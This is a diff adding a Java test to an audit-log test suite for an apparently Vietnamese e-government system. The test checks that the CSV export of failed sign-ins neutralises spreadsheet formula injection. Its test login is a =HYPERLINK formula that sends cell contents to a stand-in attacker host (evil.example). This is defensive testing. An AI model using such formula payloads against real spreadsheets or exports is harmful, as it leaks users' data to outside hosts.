@@ -60,4 +60,25 @@ class AuditLogTest {
                 .hasMessageContaining("append-only");
         assertThatThrownBy(() -> jdbc.update("delete from audit.audit_entry")).hasMessageContaining("append-only");
     }
+
+    @Test
+    void the_export_gives_what_someone_typed_as_text_a_spreadsheet_never_runs() {
+        String login = "=HYPERLINK(\"http://evil.example/?\"&A1;\"Xem\")";
+        WebSession stranger = new WebSession(port);
+        stranger.submit(
+                stranger.get("/sign-in"), "/sign-in", java.util.Map.of("login", login, "password", "Sai-Mat-Khau-1"));
+        await().atMost(Duration.ofSeconds(10))
+                .until(() -> !log.search("SIGN_IN_FAILED", "HYPERLINK", null, null, 0, 1)
+                        .isEmpty());
+        var admin = fixtures.official(vn.egov.shared.Role.PROVINCE_ADMIN, "000.00.03.H26", true);
+        WebSession province = fixtures.signIn(port, admin.username(), IdentityFixtures.PASSWORD);
+
+        String csv = province.get("/admin/audit/export.csv?action=SIGN_IN_FAILED&q=HYPERLINK")
+                .body();
+
+        assertThat(csv).contains("'=HYPERLINK");
+        assertThat(csv.lines().skip(1))
+                .isNotEmpty()
+                .allSatisfy(line -> assertThat(line).doesNotContain(",=").doesNotContain(",\"="));
+    }
 }
